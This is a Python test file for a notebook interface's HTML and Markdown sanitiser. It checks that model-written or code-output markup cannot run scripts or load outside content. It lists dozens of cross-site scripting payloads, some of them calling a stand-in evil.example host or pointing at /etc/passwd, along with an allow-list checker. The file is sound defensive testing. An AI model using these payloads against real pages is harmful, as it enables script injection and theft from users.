"""Nothing that a model or a code output wrote may act as markup."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agentnb.ui.formulas import FORMULA_CLASS, PLAIN_CLASS
from agentnb.ui.markup import (
    clean_html,
    code_text,
    escape_html,
    escape_markdown,
    fenced,
    has_content,
    markdown_html,
    plain_text,
)

PNG = "data:image/png;base64,iVBORw0KGgo="

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<svg onload="alert(1)"><circle/></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<div style="background:url(https://evil.example/x.png)">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
    "<style>body{display:none}</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<form action="https://evil.example"><input name=a><button>go</button></form>',
    '<img src="https://evil.example/x.png">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img srcset="https://evil.example/x.png 2x" src="' + PNG + '">',
    "![x](https://evil.example/x.png)",
    "![x][1]\n\n[1]: https://evil.example/x.png",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x) [y](file:///etc/passwd)",
    '[x](https://ok.example/"onmouseover=alert(1))',
    "<javascript:alert(1)>",
    "<!-- a comment --><!--><script>alert(1)</script>-->",
    "a\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "lone \ud800 surrogate <b>\udfff",
    "{braces} %%magic !shell {{x}} {% x %}",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "~~~html\n<img src=x onerror=alert(1)>\n~~~",
    "    <script>alert(1)</script>",
    "</div></details><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example></object><embed src=//evil.example><video src=//evil.example>",
    "$$\\href{javascript:alert(1)}{x}$$ \\(x\\) @@0@@",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "<details open ontoggle=alert(1)>",
    "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07 \x1b[31mred",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    '<div id="cell" class="jp-Button" name="x">x</div>',
]

TAGS = {
    *("table", "caption", "colgroup", "col", "thead", "tbody", "tfoot", "tr", "th", "td", "details", "summary"),
    *("div", "span", "p", "pre", "code", "b", "i", "em", "strong", "ul", "ol", "li", "br", "hr", "img", "sub", "sup"),
    *("small", "h1", "h2", "h3", "h4", "h5", "h6", "a", "blockquote", "s"),
}
ATTRIBUTES = {
    "style",
    "href",
    "src",
    "alt",
    "rel",
    "title",
    "colspan",
    "rowspan",
    "align",
    "scope",
    "start",
    "open",
    "lang",
}
OURS = {("dir", "auto"), ("class", PLAIN_CLASS), ("class", FORMULA_CLASS)}
BAD_STYLES = ("url(", "position", "expression", "var(", "@import", "\\", "behavior")


class Inspector(HTMLParser):
    """Collects what a browser would find, and complains about what it must not."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text = ""
        self.depth = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.depth += tag not in ("br", "hr", "img", "col")
        if tag not in TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name not in ATTRIBUTES and (name, value) not in OURS:
                self.problems.append(f"{tag} {name}")
            if name == "href" and not value.startswith(("http://", "https://", "mailto:")):
                self.problems.append(f"href {value}")
            if name == "src" and not value.startswith(("data:image/png;base64,", "data:image/jpeg;base64,")):
                self.problems.append(f"src {value}")
            if name == "style" and any(bad in value for bad in BAD_STYLES):
                self.problems.append(f"style {value}")

    def handle_endtag(self, tag: str) -> None:
        self.depth -= 1

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"<?{data}")


def inspect(markup: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(markup)
    inspector.close()
    return inspector


def test_the_inspector_notices_what_it_must() -> None:
    """The tests below would pass for nothing if this parser were blind."""
    found = [attack for attack in ATTACKS if inspect(attack).problems]

    assert len(found) > 20
    assert inspect('<img src="https://x" onerror=y>').problems == ["src https://x", "img onerror"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_models_markdown_cannot_act(attack: str) -> None:
    markup = markdown_html(attack)

    assert inspect(markup).problems == []
    assert inspect(markup).depth == 0
    assert "<img" not in markup
    markup.encode()


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("styled", [False, True])
def test_the_html_of_a_code_output_cannot_act(attack: str, styled: bool) -> None:
    markup = clean_html(f"<table><tr><td>{attack}</td></tr></table>", styled=styled)

    assert inspect(markup).problems == []
    assert inspect(markup).depth == 0
    assert "class=" not in markup
    assert "href=" not in markup
    markup.encode()


@pytest.mark.parametrize("attack", ATTACKS)
def test_markdown_output_shows_the_text_and_nothing_else(attack: str) -> None:
    """JupyterLab runs raw HTML of fresh Markdown: what a renderer that lets it through makes of ours is inert."""
    for written in (escape_markdown(attack), fenced(attack, "python\n<script>")):
        rendered = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(written)
        found = inspect(rendered)

        assert [problem for problem in found.problems if problem != "code class"] == []
        assert "<a " not in rendered
        assert "<img" not in rendered
        assert "".join(found.text.split()) == "".join(plain_text(attack).split())


@given(
    st.text(alphabet=st.characters(), max_size=200)
    | st.text(alphabet="<>[]()!`*_-+=:.#|~\\$&@1 \n\tax\"'", max_size=60)
)
def test_escaped_markdown_is_read_back_as_the_text(text: str) -> None:
    found = inspect(
        MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(escape_markdown(text))
    )

    assert set(found.problems) == set()
    assert "".join(found.text.split()) == "".join(plain_text(text).split())


@given(st.text(alphabet="<>[]()!`*_-/\\\"' \nabhrefsconijpt:=&;#x0", max_size=120))
def test_no_text_makes_markdown_or_html_act(text: str) -> None:
    assert inspect(markdown_html(text)).problems == []
    assert inspect(clean_html(text)).problems == []
    assert inspect(escape_html(text)).problems == []


def test_terminal_escapes_and_control_characters_vanish() -> None:
    text = "\x1b[1;31mred\x1b[0m \x1b]0;title\x07plain\x1b(B\x08\x07\x00\x9b32m\ud83d\n"

    assert plain_text(text) == "red plain�\n"


def test_a_progress_bar_keeps_what_it_showed_last() -> None:
    assert plain_text(" 10%\r 50%\r100%\ndone\r\n") == "100%\ndone\n"


def test_a_data_frame_keeps_its_table() -> None:
    markup = (
        '<style>x</style><table border="1" class="dataframe">'
        '<tr style="text-align: right;"><td colspan="2">1 &lt; 2</td></tr></table>'
    )

    assert clean_html(markup) == (
        '<table><tbody><tr style="text-align: right;"><td colspan="2">1 &lt; 2</td></tr></tbody></table>'
    )


def test_html_that_is_only_a_script_has_no_content() -> None:
    assert not has_content(clean_html('<div id="vis"></div><script>draw()</script>'))
    assert has_content(clean_html(f'<img src="{PNG}">'))


def test_markdown_keeps_lists_tables_code_and_links() -> None:
    markup = markdown_html("# T\n- **b** `c`\n\n| x |\n|--:|\n| 1 |\n\n```py\na < b\n```\n[l](https://a.example)")

    for piece in (
        "<h1",
        '<li dir="auto"><strong>b</strong> <code>c</code>',
        "text-align:right",
        "a &lt; b",
        'href="https://a.example"',
    ):
        assert piece in markup
    assert 'rel="noopener noreferrer"' in markup


def test_a_fence_is_longer_than_any_in_the_text() -> None:
    assert fenced("````\nx\n````", "md") == "`````md\n````\nx\n````\n`````"


def test_words_of_another_direction_begin_on_their_side() -> None:
    markup = markdown_html("# שלום\n\nabc\n\n- العربية\n- abc")

    assert markup.count('dir="auto"') == 5
    assert '<p style="margin:4px 0" dir="auto">abc</p>' in markup


def test_a_wide_table_scrolls_within_the_page() -> None:
    assert markdown_html("| a |\n|---|\n| 1 |").startswith('<div style="margin:4px 0; overflow-x:auto"><table')


def test_cells_without_a_side_begin_at_the_start() -> None:
    markup = markdown_html("| a | b |\n|---|--:|\n| 1 | 2 |")

    assert markup.count("text-align:start") == 2
    assert markup.count("text-align:right") == 2


def test_code_shows_every_line_that_runs_and_its_order() -> None:
    """Python ends a line at a carriage return, where a terminal begins it anew."""
    assert code_text("evil()\rprint(1)\r\nx = '\u202eabc'\x1b[8m") == "evil()\nprint(1)\nx = '⟨U+202E⟩abc'"
